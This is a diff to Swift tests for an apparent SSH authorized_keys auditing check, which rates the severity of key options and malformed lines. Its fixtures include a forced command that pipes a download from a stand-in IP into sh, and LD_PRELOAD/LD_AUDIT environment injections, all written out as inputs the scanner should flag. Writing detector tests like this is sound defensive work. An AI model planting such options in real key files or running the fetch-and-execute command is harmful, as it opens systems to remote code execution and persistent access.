@@ -75,7 +75,43 @@ struct `Authorized keys` {
             told == [
                 "accounts.keys short medium", "accounts.keys removed low", "accounts.keys short medium",
                 "accounts.keys shared low",
-                "accounts.keys locked low",
+                "accounts.keys locked low", "accounts.keys unreadable low",
             ])
+    }
+
+    @Test(arguments: [
+        (#"environment="LD_PRELOAD=/tmp/x.so" "#, ["environment high"]),
+        (#"environment="LD_AUDIT=/usr/lib/x.so" "#, ["environment medium"]), (#"environment="LANG=C" "#, []),
+        ("cert-authority ", ["authority low"]), (#"command="curl http://192.0.2.1/a | sh" "#, ["command high"]),
+        (#"command="/usr/bin/rrsync /srv",restrict "#, []), (#"from="192.0.2.1" "#, []), ("", []),
+    ])
+    func `are judged by what stands before them`(_ options: String, _ told: [String]) async throws {
+        let tree = try AccountTree(AccountTree.account("alice", 1000, "*"))
+        guard let key = try made("ed25519", "256", in: tree) else { return }
+        try tree.write("/home/alice/.ssh/authorized_keys", options + key.line + "\n")
+        #expect(try await tree.told().filter { !$0.contains("unused") } == told.map { "accounts.keys \($0)" })
+    }
+
+    @Test(arguments: [
+        ("/usr/sbin/nologin", "", ["no-shell low"]), ("/bin/false", #"command="x" "#, ["no-shell-command low"]),
+        ("/usr/bin/git-shell", "", []),
+    ])
+    func `of programs without a shell are told`(
+        _ shell: String, _ options: String, _ told: [String]
+    ) async throws {
+        let tree = try AccountTree(AccountTree.account("www", 33, "*", shell: shell))
+        guard let key = try made("ed25519", "256", in: tree) else { return }
+        try tree.write("/home/www/.ssh/authorized_keys", options + key.line + "\n")
+        #expect(try await tree.told() == told.map { "accounts.keys \($0)" })
+    }
+
+    @Test func `that are none are counted and not shown`() async throws {
+        let tree = try AccountTree(AccountTree.account("alice", 1000, "*"))
+        guard let key = try made("ed25519", "256", in: tree) else { return }
+        let lines = ["# a comment", "garbage line", String(key.line.prefix(40)), "", #"command="open \#(key.line)"#]
+        try tree.write("/home/alice/.ssh/authorized_keys", lines.joined(separator: "\n") + "\n")
+        let findings = try await tree.findings().filter { $0.check == "accounts.keys" }
+        #expect(findings.map(\.title.arguments["count"]) == ["3"])
+        #expect(findings.flatMap(\.evidence).map(\.excerpt) == Array(repeating: "not a public key", count: 3))
     }
 }
